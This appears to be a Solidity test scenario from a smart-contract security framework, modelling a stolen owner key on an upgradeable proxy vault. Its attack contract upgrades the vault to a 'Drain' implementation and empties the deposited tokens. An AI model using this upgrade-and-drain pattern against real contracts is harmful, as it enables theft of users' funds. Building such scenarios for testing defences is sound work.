// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./UnprotectedUpgrade.sol";

/// Only the owner may say what runs next.
contract OwnedUpgrade is OpenUpgrade {
    address public owner;

    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(IERC20 asset_) OpenUpgrade(asset_) {}

    function init(address owner_) external {
        require(owner == address(0), "again");
        owner = owner_;
    }

    function transferOwnership(address to) external {
        _authorise();
        emit OwnershipTransferred(owner, to);
        owner = to;
    }

    function _authorise() internal view override {
        require(msg.sender == owner, "owner");
    }
}

contract StolenKeyUpgradeScene is Scene {
    Token public usd;
    OwnedUpgrade public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = OwnedUpgrade(payable(address(new Proxy1967(address(new OwnedUpgrade(IERC20(address(usd))))))));
        vault.init(t);
        usd.mint(address(vault), 2_500_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function prelude(address attack) external view override returns (address, bytes memory) {
        return (address(vault), abi.encodeCall(OwnedUpgrade.transferOwnership, (attack)));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(OpenUpgrade.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(OpenUpgrade.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract StolenKeyUpgradeAttack is Attack {
    OwnedUpgrade private immutable vault;
    Drain private immutable evil = new Drain();

    constructor(StolenKeyUpgradeScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        if (index == 0) vault.upgradeTo(address(evil));
        Drain(address(vault)).drain(loot0, address(this), loot0.balanceOf(address(vault)) / (count - index));
    }
}
